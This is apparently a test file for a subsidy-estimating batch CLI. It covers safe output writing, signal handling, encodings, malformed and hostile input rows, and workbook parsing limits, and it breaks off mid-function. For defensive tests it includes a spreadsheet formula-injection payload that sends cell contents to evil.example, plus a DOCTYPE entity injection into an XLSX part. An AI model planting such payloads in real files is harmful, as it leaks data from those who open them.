"""A batch that can be trusted with a client's file (issue 13, and the batch-input items of 14).

Nothing overwritten: -o is written beside and renamed on success, and never names the input.
Nothing lost: a hostile row is an error row; an input that cannot be read on is refused
before anything is written, naming the row. One-line errors, never exit 70.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from unittest import mock

import pytest

from tests.conftest import assert_group_ended
from yantai_subsidy.__main__ import run

AS_OF = "2024-06-01"
YTSUB = [sys.executable, "-m", "yantai_subsidy"]
POSIX = pytest.mark.skipif(sys.platform == "win32", reason="POSIX shells, signals and devices")


def ytsub(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = run(["batch", *args])
    out = capsys.readouterr()
    return code, out.out, out.err


def shell(command: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["bash", "-c", command], cwd=cwd, capture_output=True, text=True, check=False
    )


def many(path: Path, rows: int) -> Path:
    path.write_text("benefit,amount\n" + "techloan,1000000\n" * rows, encoding="utf-8")
    return path


@pytest.fixture
def small_fields(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """A field limit of 4,096 characters (ytsub's and the csv module's), so a test stays small."""
    import csv

    from yantai_subsidy import batch_read

    monkeypatch.setattr(batch_read, "FIELD_LIMIT", 4096)
    limit = csv.field_size_limit(4096)
    yield
    csv.field_size_limit(limit)


def wait_for_output(folder: Path) -> None:
    """Until a batch has written results to its ``-o out.jsonl`` (still under a temporary name)."""
    deadline = time.monotonic() + 120  # a loaded machine starts slowly
    while time.monotonic() < deadline and not any(
        part.stat().st_size for part in folder.glob(".out.jsonl.*")
    ):
        time.sleep(0.05)


# --- the output is never the input, and appears whole or not at all ---------------------------


@pytest.mark.parametrize("how", ["path", "symlink", "hardlink", "dotted"])
def test_output_naming_the_input_is_refused_before_reading(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, how: str
) -> None:
    source = many(tmp_path / "in.csv", 20)
    before = source.read_bytes()
    target = {"path": source, "dotted": tmp_path / "." / "in.csv"}.get(how, tmp_path / "out.csv")
    if how == "symlink":
        target.symlink_to(source)
    elif how == "hardlink":
        os.link(source, target)
    code, out, err = ytsub(capsys, str(source), "-f", "csv", "-o", str(target))
    assert (code, out) == (2, "")
    assert err == f"Error: --output {target} is the input file: write to another file\n"
    assert source.read_bytes() == before


@POSIX
@pytest.mark.parametrize("lang", ["en", "zh"])
def test_stdout_appending_to_a_profile_is_refused(tmp_path: Path, lang: str) -> None:
    """A sibling of a batch's: ``ytsub match p.yaml -f json >> p.yaml`` appended the result to
    the profile (exit 0), which then no longer read as one."""
    profile = tmp_path / "p.yaml"
    profile.write_text("kind: person\nfacts:\n  outpatient_level2: 900\n", encoding="utf-8")
    before = profile.read_bytes()
    done = shell(f"{' '.join(YTSUB)} match p.yaml -f json --lang {lang} >> p.yaml", tmp_path)
    assert done.returncode == 2
    assert (
        done.stderr
        == {
            "en": "Error: stdout is the profile p.yaml: write the results to another file\n",
            "zh": "错误：标准输出就是档案 p.yaml：请把结果写到其他文件\n",
        }[lang]
    )
    assert profile.read_bytes() == before


@POSIX
def test_stdout_appending_to_the_input_is_refused(tmp_path: Path) -> None:
    source = many(tmp_path / "in.csv", 5)
    before = source.read_bytes()
    done = shell(f"{' '.join(YTSUB)} batch in.csv -f csv >> in.csv", tmp_path)
    assert done.returncode == 2
    assert done.stderr == (
        "Error: stdout is the input file in.csv: write the results with --output OTHER_FILE\n"
    )
    assert source.read_bytes() == before


def test_a_refused_option_leaves_the_output_untouched(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    source = many(tmp_path / "in.csv", 3)
    keep = tmp_path / "keep.csv"
    keep.write_text("precious\n", encoding="utf-8")
    code, _, err = ytsub(capsys, str(source), "--jobs", "0", "-o", str(keep))
    assert code == 2
    assert err == "Error: --jobs: give 1 or more, not 0\n"
    assert keep.read_text(encoding="utf-8") == "precious\n"


def test_output_keeps_its_permissions_and_its_symlink(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    source = many(tmp_path / "in.csv", 3)
    real = tmp_path / "real.jsonl"
    real.write_text("old\n", encoding="utf-8")
    real.chmod(0o640)
    link = tmp_path / "link.jsonl"
    link.symlink_to(real)
    code, _, _ = ytsub(capsys, str(source), "-q", "-o", str(link))
    assert code == 0
    assert link.is_symlink()
    assert len(real.read_text(encoding="utf-8").splitlines()) == 3
    assert real.stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "link.jsonl", "real.jsonl"]


@POSIX
@pytest.mark.parametrize("jobs", ["1", "2"])
@pytest.mark.parametrize("name", ["SIGTERM", "SIGHUP", "SIGQUIT"])
def test_a_signal_to_end_leaves_no_output_no_temp_file_no_worker(
    tmp_path: Path, jobs: str, name: str
) -> None:
    """`kill PID` (SIGTERM, to the main process only), the terminal closing (SIGHUP) and
    Ctrl-\\ (SIGQUIT) leave FILE as it was, no temporary file and no worker: a serial batch
    killed by SIGQUIT left its hidden .out.jsonl.….ytsub-partial beside FILE."""
    signum = getattr(signal, name)
    source = many(tmp_path / "in.csv", 300_000)
    output = tmp_path / "out.jsonl"
    output.write_text("yesterday's results\n", encoding="utf-8")
    with subprocess.Popen(
        [*YTSUB, "batch", str(source), "-j", jobs, "-o", str(output)],
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    ) as job:
        wait_for_output(tmp_path)
        job.send_signal(signum)
        _, err = job.communicate(timeout=120)
    assert job.returncode == 128 + signum
    assert "Traceback" not in err
    assert output.read_text(encoding="utf-8") == "yesterday's results\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.jsonl"]
    assert_group_ended(job.pid, "a worker outlived the batch")


@POSIX
def test_workers_end_when_the_main_process_is_killed(tmp_path: Path) -> None:
    """SIGKILL cannot be answered by the main process: its workers notice it is gone and
    remove the half-written output and the folder of parts before they end."""
    source = many(tmp_path / "in.csv", 300_000)
    with subprocess.Popen(
        [*YTSUB, "batch", str(source), "-j", "2", "-o", str(tmp_path / "out.jsonl")],
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    ) as job:
        wait_for_output(tmp_path)
        assert any(tmp_path.glob(".ytsub-parts-*"))  # the workers are at work
        job.kill()
        _, err = job.communicate(timeout=120)
    assert_group_ended(job.pid, "a worker outlived its killed parent")
    assert "Traceback" not in err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]


@POSIX
@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_a_full_stdout_is_a_one_line_error(tmp_path: Path, fmt: str) -> None:
    many(tmp_path / "in.csv", 2000)
    done = shell(f"{' '.join(YTSUB)} batch in.csv -f {fmt} > /dev/full", tmp_path)
    assert done.returncode == 1  # the work started: as every command's full disk
    assert done.stderr == ("Error: cannot write the results to stdout: No space left on device\n")


@POSIX
@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_full_disk_leaves_the_output_as_it_was(tmp_path: Path, jobs: str) -> None:
    many(tmp_path / "in.csv", 20_000)
    (tmp_path / "out.csv").write_text("before\n", encoding="utf-8")
    command = f"ulimit -f 64; {' '.join(YTSUB)} batch in.csv -f csv -j {jobs} -o out.csv"
    done = shell(command, tmp_path)
    assert done.returncode == 1  # the work started: as every command's full disk
    assert done.stderr == (
        "Error: --output: cannot write out.csv: File too large (it is left as it was)\n"
    )
    assert (tmp_path / "out.csv").read_text(encoding="utf-8") == "before\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.csv"]


@POSIX
def test_a_device_as_output_is_written_directly(tmp_path: Path) -> None:
    many(tmp_path / "in.csv", 10)
    done = shell(f"{' '.join(YTSUB)} batch in.csv -q -o /dev/full", tmp_path)
    assert done.returncode == 1  # the work started: as every command's full disk
    assert done.stderr.startswith("Error: --output: cannot write /dev/full: No space left")


@POSIX
def test_dev_stdin_is_read_once_like_a_pipe(tmp_path: Path) -> None:
    many(tmp_path / "in.csv", 3)
    done = shell(f"cat in.csv | {' '.join(YTSUB)} batch /dev/stdin --as-of {AS_OF}", tmp_path)
    assert done.returncode == 0, done.stderr
    assert len(done.stdout.splitlines()) == 3


# --- the output's format -----------------------------------------------------------------------


def test_the_output_format_follows_the_file_name(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    source = many(tmp_path / "in.csv", 2)
    code, _, _ = ytsub(capsys, str(source), "-q", "-o", str(tmp_path / "out.csv"))
    assert code == 0
    assert (tmp_path / "out.csv").read_text(encoding="utf-8").startswith("row,benefit,")
    code, _, err = ytsub(capsys, str(source), "-f", "jsonl", "-o", str(tmp_path / "x.csv"))
    assert code == 2
    assert err == (
        f"Error: --format jsonl contradicts --output {tmp_path / 'x.csv'} (a csv file name):"
        " drop --format, or name the file for its format\n"
    )
    assert not (tmp_path / "x.csv").exists()


# --- encodings -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "codec", ["rot13", "base64", "hex", "zlib", "bz2", "uu", "undefined", "punycode", "idna"]
)
def test_an_encoding_that_is_not_a_files_is_a_usage_error(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, codec: str
) -> None:
    source = many(tmp_path / "in.csv", 1)
    code, out, err = ytsub(capsys, str(source), "--encoding", codec)
    assert (code, out) == (2, "")
    assert err == (
        f"Error: --encoding: '{codec}' is not a text encoding of a file"
        " (give one such as utf-8, gb18030, utf-16-le)\n"
    )


def test_utf16_needs_its_byte_order_mark(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    text = "benefit,amount\ntechloan,300万\n"
    bare, marked = tmp_path / "bare.csv", tmp_path / "marked.csv"
    bare.write_bytes(text.encode("utf-16-le"))
    marked.write_bytes(text.encode("utf-16"))
    code, _, err = ytsub(capsys, str(bare), "--encoding", "utf-16")
    assert code == 2
    assert "--encoding: the input does not start with a utf-16 byte-order mark" in err
    assert ytsub(capsys, str(bare), "--encoding", "utf-16-le", "-q")[0] == 0
    assert ytsub(capsys, str(marked), "--encoding", "utf-16", "-q")[0] == 0


def test_a_late_byte_against_the_detected_encoding_refuses_a_piped_batch(tmp_path: Path) -> None:
    """Detection on a pipe sees its first megabyte; a GB18030 cell after it refuses the whole
    batch, and -o is left as it was."""
    rows = "techloan,1000000\n" * 70_000  # 1.2 MB of ASCII, then a GB18030 row
    data = ("benefit,amount\n" + rows).encode() + "科信贷,5\n".encode("gb18030")
    out = tmp_path / "out.jsonl"
    out.write_text("before\n", encoding="utf-8")
    done = subprocess.run(
        [*YTSUB, "batch", "-", "-o", str(out)], input=data, capture_output=True, check=False
    )
    assert done.returncode == 2
    assert b"name its encoding with --encoding" in done.stderr
    assert out.read_text(encoding="utf-8") == "before\n"


# --- an input that cannot be read on is refused, naming the row ---------------------------------


@pytest.mark.parametrize(
    ("body", "row"),
    [
        ('techloan,1\ntechloan,"400', 2),  # at the end of the file
        ("".join(f"techloan,{n}\n" for n in range(10)) + 'techloan,"5\n' + "techloan,1\n" * 20, 11),
    ],
)
def test_a_quote_never_closed_refuses_the_input_before_writing(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, body: str, row: int
) -> None:
    source = tmp_path / "in.csv"
    source.write_text("benefit,amount\n" + body, encoding="utf-8")
    code, out, err = ytsub(capsys, str(source))
    assert (code, out) == (2, "")
    assert err == (
        f"Error: row {row}: a quote opened in this row is never closed"
        " (the rest of the input would be read as one cell)\n"
    )


def test_a_quote_that_swallows_megabytes_is_refused_at_its_row(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, small_fields: None
) -> None:
    source = tmp_path / "in.csv"
    rows = "techloan,1\n" * 10 + 'techloan,"5\n' + "techloan,1\n" * 20_000
    source.write_text("benefit,amount\n" + rows, encoding="utf-8")
    code, out, err = ytsub(capsys, str(source))
    assert (code, out) == (2, "")
    assert err.startswith("Error: row 11: field larger than field limit (4096):")


# --- a hostile row is an error row, and the batch goes on ---------------------------------------


def jsonl_errors(out: str) -> dict[int, str]:
    return {r["row"]: r.get("error", "") for r in map(json.loads, out.splitlines())}


def test_hostile_json_lines_are_error_rows(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    source = tmp_path / "in.jsonl"
    lines = [
        '{"benefit": "techloan", "amount": "\\ud800"}',
        "[" * 100_000,
        '{"benefit": "techloan", "amount": "' + "9" * 2_000_000 + '"}',
        '{"benefit": "techloan", "amount": "5"}',
    ]
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    code, out, _ = ytsub(capsys, str(source), "--as-of", AS_OF, "-q")
    assert code == 1
    assert jsonl_errors(out) == {
        1: "not a JSON object: a string holds a lone surrogate (\\ud800–\\udfff)",
        2: "not a JSON object: nested too deeply",
        3: "the row holds 2,000,037 characters; a batch reads rows of at most 1,048,576",
        4: "",
    }


def test_an_over_long_csv_cell_is_an_error_row(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    source = tmp_path / "in.csv"
    cell = "9" * 131_073  # over the csv module's default limit
    source.write_text(
        f'benefit,amount\ntechloan,{cell}\ntechloan,"{"x" * 2_000_000}"\ntechloan,5\n',
        encoding="utf-8",
    )
    code, out, _ = ytsub(capsys, str(source), "--as-of", AS_OF, "-q")
    assert code == 1
    errors = jsonl_errors(out)
    assert list(errors) == [1, 2, 3]
    assert errors[1] == f"--amount: {cell[:40]}… is more than 10^15 yuan: check the figure"
    assert (
        errors[2] == "the row holds 2,000,008 characters; a batch reads rows of at most 1,048,576"
    )
    assert errors[3] == ""


def test_benefit_and_measure_must_agree(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text(
        "benefit,measure,amount\ntechloan,48,300万\ntechloan,47,300万\n,48,300万\n",
        encoding="utf-8",
    )
    code, out, _ = ytsub(capsys, str(source), "--as-of", AS_OF, "-q")
    assert code == 1
    assert jsonl_errors(out) == {
        1: "",
        2: "the row's benefit 'techloan' is measure 48, but its measure cell says 47:"
        " correct one, or leave measure empty",
        3: "measure 48 has several benefits: techloan, techloan-loss, resultloan-loss",
    }


def test_a_value_under_an_unnamed_column_is_an_error_row(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    source = tmp_path / "in.csv"
    source.write_text("benefit,amount,,\ntechloan,5,junk,\ntechloan,5,,\n", encoding="utf-8")
    code, out, _ = ytsub(capsys, str(source), "--as-of", AS_OF, "-q")
    assert code == 1
    assert jsonl_errors(out) == {
        1: "cell 3 holds a value but its column has no name in the header",
        2: "",
    }


def test_a_number_cell_chooses_the_same_plan_whatever_came_before(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """8 == 8.0 as dict keys: the plan cache once answered 8.0 with measure 8's plan."""
    alone, after = tmp_path / "alone.jsonl", tmp_path / "after.jsonl"
    row = '{"measure": 8.0, "area": "10"}\n'
    alone.write_text(row, encoding="utf-8")
    after.write_text('{"measure": 8, "area": "10"}\n' + row, encoding="utf-8")
    _, out_alone, _ = ytsub(capsys, str(alone), "--as-of", AS_OF, "-q")
    _, out_after, _ = ytsub(capsys, str(after), "--as-of", AS_OF, "-q")
    first = json.loads(out_alone)
    second = json.loads(out_after.splitlines()[1])
    assert "error" in first
    assert second == {**first, "row": 2}


# --- output meant for Excel never runs input text as a formula ----------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def hostile_input(tmp_path: Path) -> Path:
    source = tmp_path / "in.csv"
    rows = [["benefit", "amount"], [HOSTILE, "5"], ["+1+2", "5"], ["@SUM(A1)", "5"]]
    rows += [["\tx", "5"], ["-3+4", "5"], ["techloan", "=1+2"], ["techloan", "300万"]]
    import csv

    with source.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    return source


def test_xlsx_output_stores_text_as_text(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    target = tmp_path / "out.xlsx"
    code, _, _ = ytsub(
        capsys, str(hostile_input(tmp_path)), "-q", "--as-of", AS_OF, "-o", str(target)
    )
    assert code == 1
    sheet = openpyxl.load_workbook(target).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert sheet["B2"].value == HOSTILE  # the text kept exactly, as text
    assert sheet["I7"].value.startswith("--amount: not an amount of money: '=1+2'")


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_csv_for_excel_neutralises_formula_starts(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, jobs: str
) -> None:
    import csv
    import io

    code, out, _ = ytsub(
        capsys,
        str(hostile_input(tmp_path)),
        "-q",
        "-f",
        "csv",
        "--bom",
        "-j",
        jobs,
        "--as-of",
        AS_OF,
    )
    assert code == 1
    rows = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))
    assert [r[1] for r in rows[1:6]] == ["'" + HOSTILE, "'+1+2", "'@SUM(A1)", "'\tx", "'-3+4"]
    assert rows[6][8].startswith("'--amount: not an amount of money: '=1+2' (write ")
    assert rows[7][1:5] == ["techloan", "48", "conditional", "0.00"]
    # without --bom the CSV is data for programs: every cell as it is
    _, plain, _ = ytsub(capsys, str(hostile_input(tmp_path)), "-q", "-f", "csv", "--as-of", AS_OF)
    assert list(csv.reader(io.StringIO(plain)))[1][1] == HOSTILE


# --- totals --------------------------------------------------------------------------------------


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_an_amount_with_no_money_is_listed_not_added(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, jobs: str
) -> None:
    source = tmp_path / "in.csv"
    source.write_text(
        "benefit,amount\ntravel-deposit,\ntechloan,300万\ntravel-deposit,\n", encoding="utf-8"
    )
    code, _, err = ytsub(
        capsys, str(source), "--as-of", AS_OF, "-j", jobs, "-o", str(tmp_path / "o.jsonl")
    )
    assert code == 0
    assert err == (
        "3 rows: 3 ok, 0 failed; total ¥0.00 – ¥45,000.00 (CNY); 2 row(s) whose amount"
        " the document does not state (not added): travel-deposit\n"
    )


# --- --keep: the client's own columns carried into every row ------------------------------------

CLIENTS = (
    "benefit,amount,Client ID,name\n"
    "techloan,300万,C-1,甲\n"
    'techloan,-1,C-2,"乙, Ltd"\n'
    "techloan,5,C-3,\n"
    "techloan,5,C-4,x,extra\n"
)


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_keep_carries_columns_into_every_format(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, jobs: str
) -> None:
    import csv
    import io

    source = tmp_path / "clients.csv"
    source.write_text(CLIENTS, encoding="utf-8")
    args = [str(source), "--keep", "Client ID,name", "--as-of", AS_OF, "-q", "-j", jobs]
    code, out, _ = ytsub(capsys, *args)
    assert code == 1
    kept = [json.loads(line)["keep"] for line in out.splitlines()]
    assert kept == [
        {"Client ID": "C-1", "name": "甲"},
        {"Client ID": "C-2", "name": "乙, Ltd"},  # an error row keeps its columns too
        {"Client ID": "C-3", "name": None},
        {"Client ID": None, "name": None},  # a row that could not be read: nothing to carry
    ]
    _, out, _ = ytsub(capsys, *args, "-f", "csv")
    rows = list(csv.reader(io.StringIO(out)))
    assert rows[0][-4:] == ["error", "grounds", "Client ID", "name"]  # kept columns come last
    assert [r[-2:] for r in rows[1:]] == [["C-1", "甲"], ["C-2", "乙, Ltd"], ["C-3", ""], ["", ""]]
    openpyxl = pytest.importorskip("openpyxl")
    target = tmp_path / f"out{jobs}.xlsx"
    ytsub(capsys, *args, "-o", str(target))
    sheet = list(openpyxl.load_workbook(target).active.iter_rows(values_only=True))
    assert sheet[0][-2:] == ("Client ID", "name")
    assert sheet[1][-2:] == ("C-1", "甲")


def test_keep_with_json_lines_input(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    source = tmp_path / "in.jsonl"
    source.write_text(
        '{"benefit": "techloan", "amount": "5", "id": 7}\n{"benefit": "techloan", "amount": "5"}\n',
        encoding="utf-8",
    )
    code, out, _ = ytsub(capsys, str(source), "--keep", "id", "-q", "--as-of", AS_OF)
    assert code == 0
    assert [json.loads(line)["keep"] for line in out.splitlines()] == [{"id": "7"}, {"id": None}]


@pytest.mark.parametrize(
    ("keep", "message"),
    [
        (
            "id",
            "--keep: the input has no column 'id' (its columns: benefit, amount, client id, name)",
        ),
        ("status", "--keep: 'status' is a column of the results already"),
        ("name,Name", "--keep: 'Name' is named twice"),
        ("name,", "--keep: give column names separated by commas, not 'name,'"),
    ],
)
def test_keep_refuses_what_it_cannot_carry(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, keep: str, message: str
) -> None:
    source = tmp_path / "clients.csv"
    source.write_text(CLIENTS, encoding="utf-8")
    out_file = tmp_path / "out.csv"
    code, out, err = ytsub(capsys, str(source), "--keep", keep, "-o", str(out_file))
    assert (code, out, err) == (2, "", f"Error: {message}\n")
    assert not out_file.exists()


def test_an_unknown_column_points_at_keep(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    source = tmp_path / "clients.csv"
    source.write_text(CLIENTS, encoding="utf-8")
    _, out, _ = ytsub(capsys, str(source), "-q", "--keep", "name")
    assert json.loads(out.splitlines()[0])["error"] == (
        "column 'client id' is not an option of techloan (its options: amount, received);"
        " to carry it into the results, name it in --keep"
    )


# --- XLSX: bounded before openpyxl reads it ------------------------------------------------------


def workbook(tmp_path: Path, rows: list[list[object]]) -> Path:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    path = tmp_path / "in.xlsx"
    book.save(path)
    return path


def rewrite_part(path: Path, part: str, change: object) -> None:
    """Rewrite one part of a workbook (``change``: bytes -> bytes)."""
    import zipfile

    with zipfile.ZipFile(path) as book:
        parts = {info.filename: book.read(info) for info in book.infolist()}
    assert callable(change)
    parts[part] = change(parts.get(part, b""))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        for name, data in parts.items():
            book.writestr(name, data)


CLIENT_ROWS: list[list[object]] = [["benefit", "amount"], ["techloan", 3000000], ["techloan", 5]]


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (
            lambda data: b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + data,
            "the workbook's xl/worksheets/sheet1.xml declares a DOCTYPE: refused"
            " (entities are not read)",
        ),
        (
            lambda data: data.replace(b"</sheetData>", b" " * 1_100_000 + b"</sheetData>"),
            "the workbook's xl/worksheets/sheet1.xml holds a run of over 1,048,576 bytes of"
            " text: refused (a cell that long is not a row of a client list)",
        ),
    ],
)
def test_a_hostile_workbook_is_refused_before_writing(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, change: object, message: str
) -> None:
    path = workbook(tmp_path, CLIENT_ROWS)
    rewrite_part(path, "xl/worksheets/sheet1.xml", change)
    code, out, err = ytsub(capsys, str(path))
    assert (code, out, err) == (2, "", f"Error: {message}\n")


def test_a_truncated_workbook_is_refused(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = workbook(tmp_path, CLIENT_ROWS * 50)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    code, out, err = ytsub(capsys, str(path))
    assert (code, out) == (2, "")
    assert err.startswith("Error: not a readable .xlsx workbook (")


def test_shared_strings_are_bounded(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from yantai_subsidy import batch_read

    monkeypatch.setattr(batch_read, "XLSX_SHARED_STRINGS_LIMIT", 1 << 20)
    path = workbook(tmp_path, [["benefit", "amount", "note"], ["techloan", 5, "x" * 20]])
    rewrite_part(
        path, "xl/sharedStrings.xml", lambda _: b"<sst>" + b"<si><t>y</t></si>" * 80_000 + b"</sst>"
    )
    code, _, err = ytsub(capsys, str(path))
    assert code == 2
    assert err == (
        "Error: the workbook's xl/sharedStrings.xml is over 1 MB: a batch reads shared strings"
        " of at most that size (save the sheet as CSV instead)\n"
    )


def test_workbook_cells_become_error_rows(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    rows: list[list[object]] = [
        ["benefit", "amount", None],
        ["techloan", 0.25, None],  # rewritten below as a float that only arithmetic gives
        ["techloan", 5, "junk under no name"],
        ["techloan", 3000000.0, None],
    ]
    path = workbook(tmp_path, rows)
    rewrite_part(
        path,
        "xl/worksheets/sheet1.xml",
        lambda data: data.replace(b"<v>0.25</v>", b"<v>0.30000000000000004</v>"),
    )
    code, out, _ = ytsub(capsys, str(path), "-q", "--as-of", AS_OF)
    assert code == 1
    assert jsonl_errors(out) == {
        1: "column 'amount': the float 0.30000000000000004 is not an exact figure"
        " (arithmetic on floats): give it as text, or round it",
        2: "cell 3 holds a value but its column has no name in the header",
        3: "",
    }


# --- records as pandas gives them ----------------------------------------------------------------


def test_estimate_many_takes_records_as_pandas_gives_them(rules: object) -> None:
    """``pd.read_csv(...).to_dict("records")``: an empty cell is NaN, a number column of
    floats (3000000.0), a column with an empty cell float even where integers were written."""
    from yantai_subsidy.batch import RowError, estimate_many
    from yantai_subsidy.result import Estimate

    nan = float("nan")
    records = [
        {"benefit": "techloan", "amount": 3000000.0, "received": nan, "confirm": nan},
        {"benefit": "techloan", "amount": 5000000.0, "received": 60000.0, "confirm": "filed"},
        {"benefit": "techloan", "amount": 0.1 + 0.2, "received": nan, "confirm": nan},
        {"benefit": nan, "measure": 48.0, "amount": 1.5, "received": nan, "confirm": nan},
        {"benefit": "techloan", "amount": float("inf"), "received": nan, "confirm": nan},
    ]
    results = list(estimate_many(rules, records, as_of=AS_OF))  # type: ignore[arg-type]
    first, second, third, fourth, fifth = results
    assert isinstance(first, Estimate)
    assert first.amount.high == 45000
    assert first.inputs == {"amount": "3000000"}
    assert isinstance(second, Estimate)
    assert second.amount.high == 40000
    assert isinstance(third, RowError)
    assert third.message.startswith("column 'amount': the float 0.30000000000000004 is not")
    assert isinstance(fourth, RowError)  # measure 48 has several benefits: as the CLI says
    assert "measure 48 has several benefits" in fourth.message
    assert isinstance(fifth, RowError)
    assert fifth.message == "column 'amount': inf is not a finite number"


class _Frame:
    """Just enough of a pandas DataFrame for the recipe, reading a CSV as pandas does: an
    empty cell is NaN, and a column whose cells all read as numbers holds floats."""

    def __init__(self, columns: dict[str, list[object]]) -> None:
        self.columns = columns

    def __getitem__(self, names: list[str]) -> _Frame:
        return _Frame({name: self.columns[name] for name in names})

    def __setitem__(self, name: str, values: list[object]) -> None:
        self.columns[name] = list(values)

    def to_dict(self, orient: str) -> list[dict[str, object]]:
        assert orient == "records"
        names = list(self.columns)
        return [
            dict(zip(names, cells, strict=True))
            for cells in zip(*self.columns.values(), strict=True)
        ]


def _read_csv(path: str) -> _Frame:
    import csv

    with open(path, encoding="utf-8", newline="") as source:
        rows = list(csv.reader(source))
    columns: dict[str, list[object]] = {}
    for index, name in enumerate(rows[0]):
        cells = [row[index] for row in rows[1:]]

        def number(text: str) -> bool:
            try:
                float(text)
            except ValueError:
                return False
            return True

        numeric = all(number(cell) for cell in cells if cell)
        columns[name] = [
            float("nan") if not cell else float(cell) if numeric else cell for cell in cells
        ]
    return _Frame(columns)


def test_the_pandas_recipe_runs(monkeypatch: pytest.MonkeyPatch) -> None:
    """examples/recipes.md's pandas block, with pandas if installed, else with an emulation
    of the records pandas gives (NaN for empty cells, floats for number columns)."""
    import re
    import types

    from tests.conftest import REPO

    text = (REPO / "examples" / "recipes.md").read_text(encoding="utf-8")
    (block,) = re.findall(r"## pandas\n.*?```python\n(.*?)```", text, re.S)
    try:
        import pandas  # noqa: F401
    except ImportError:
        fake = types.ModuleType("pandas")
        fake.read_csv = _read_csv  # type: ignore[attr-defined]
        monkeypatch.setitem(sys.modules, "pandas", fake)
    monkeypatch.chdir(REPO)
    namespace: dict[str, object] = {}
    exec(compile(block, "recipes.md", "exec"), namespace)
    clients = namespace["clients"]
    rows = clients[["id", "high", "error"]].to_dict("records")  # type: ignore[index]
    assert [(r["id"], r["high"], r["error"]) for r in rows] == [
        ("C-001", Decimal("45000.00"), None),
        ("C-002", Decimal("40000.00"), None),
        ("C-003", None, "--amount: must not be negative: '-5'"),
    ]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_a_named_encoding_is_checked_to_the_end_before_stdout_is_written(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, fmt: str
) -> None:
    rows = (
        ["benefit,amount", *["techloan,5"] * 300, "科信贷,5"]
        if fmt == "csv"
        else [*['{"benefit": "techloan", "amount": "5"}'] * 300, '{"benefit": "科信贷"}']
    )
    source = tmp_path / f"in.{fmt}"
    source.write_bytes("\n".join(rows).encode("gb18030") + b"\n")
    code, out, err = ytsub(capsys, str(source), "--encoding", "utf-8")
    assert (code, out) == (2, "")
    assert err == (
        "Error: the input is not utf-8-sig (invalid start byte): name its encoding with --encoding\n"
    )


def test_a_read_only_output_is_not_replaced(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Renaming over a read-only file would succeed where opening it would not: refused.
    (Whether the file is writable is asked of os.access, so the test runs as root too.)"""
    from yantai_subsidy import atomic

    source = many(tmp_path / "in.csv", 2)
    target = tmp_path / "out.jsonl"
    target.write_text("keep me\n", encoding="utf-8")
    target.chmod(0o444)
    real_access = os.access
    monkeypatch.setattr(
        atomic.os, "access", lambda path, mode: path != str(target) and real_access(path, mode)
    )
    code, _, err = ytsub(capsys, str(source), "-o", str(target))
    assert code == 2
    assert err == f"Error: --output: cannot write {target}: Permission denied\n"
    assert target.read_text(encoding="utf-8") == "keep me\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "out.jsonl"]


def test_no_input_line_can_end_the_input_early(
